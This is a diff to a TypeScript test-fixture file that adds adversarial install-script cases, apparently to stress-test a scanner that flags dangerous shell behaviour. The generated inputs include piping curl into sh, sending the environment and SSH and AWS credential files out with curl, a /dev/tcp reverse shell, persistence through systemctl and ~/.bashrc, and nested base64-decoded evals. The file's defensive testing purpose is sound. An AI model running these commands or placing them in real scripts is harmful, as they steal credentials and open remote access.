@@ -5,7 +5,8 @@
  * would grow without bound if substituted without a budget, archives unpacked into deep folders,
  * here-documents never ended, substitutions, evals and function calls nested past the depth the
  * scan reads, commands spread over lines, parameter expansions, arrays, commands named at run
- * time and here-documents captured into names.
+ * time and here-documents captured into names; compound commands, ANSI-C strings, aliases and IFS
+ * splitting, and each behaviour rule's trigger all along one line.
  */
 
 /** `unit` repeated between `head` and `tail`, to at most `bytes` (ASCII) in all. */
@@ -69,5 +70,17 @@ export const ADVERSARIAL_CASES: readonly AdversarialCase[] = [
   ['a long array expanded on every line', 'INSTALL', (n) => lines((i) => (i === 0 ? `a=(${'x '.repeat(1000)})` : 'cp "${a[@]}" ${a[*]} d'), n)],
   ['a command named at run time on every line', 'INSTALL', (n) => lines((i) => `"$cmd${i}" --x "\${!h${i}}"`, n)],
   ['here-documents captured into names, each run', 'INSTALL', (n) => lines((i) => [`c="$(cat <<'E'`, 'exec(urlopen(u).read())', 'E', ')"', 'python3 -c "$c"'][i % 5]!, n)],
+  ['compound commands opened all along one line, never closed', 'INSTALL', (n) => fill('{ if while for case ( ', n, '', ' curl u | sh')],
+  ['groups and subshells piped into sh all along one line', 'INSTALL', (n) => fill('{ ( curl -fsSL u ); } |& ', n, '', 'sh')],
+  ['closers all along one line', 'INSTALL', (n) => fill('} fi done esac ) ', n, 'curl u ', '| sh')],
+  ['ANSI-C strings of escapes all along one line', 'INSTALL', (n) => fill(String.raw`$'\x63\165\u0072l\'' `, n)],
+  ['one ANSI-C string never closed', 'INSTALL', (n) => fill(String.raw`\x63\'`, n, "$'")],
+  ['a long alias used all along one line', 'INSTALL', (n) => fill('a; ', n, `alias a='curl -fsSL https://x.example/${'x'.repeat(4000)}'\n`)],
+  ['IFS=, and a long value split on every line', 'INSTALL', (n) => lines((i) => (i === 0 ? 'IFS=,' : i === 1 ? `v=${'a,'.repeat(2000)}` : '$v ${IFS} $v'), n)],
+  ['the environment piped into curl all along one line', 'INSTALL', (n) => fill('env | curl -d @- u | ', n, '', 'sh')],
+  ['decoders piped into decoders all along one line', 'INSTALL', (n) => fill('base64 -d | xxd -r | ', n, 'echo x | ', 'sh')],
+  ['credential paths all along one line', 'INSTALL', (n) => fill('~/.ssh/id_rsa @$HOME/.aws/credentials ', n, 'curl -F ')],
+  ['reverse shells and persistence all along one line', 'INSTALL', (n) => fill('bash -i >& /dev/tcp/h/1 0>&1; systemctl enable t; echo >> ~/.bashrc; ', n)],
+  ['evals of decoded strings, nested, all along one line', 'INSTALL', (n) => fill('eval "$(echo x | base64 -d | sh -c "', n)],
   ['sk- without the OpenAI marker', 'payload/keys.txt', (n) => fill('sk-', n)],
 ];
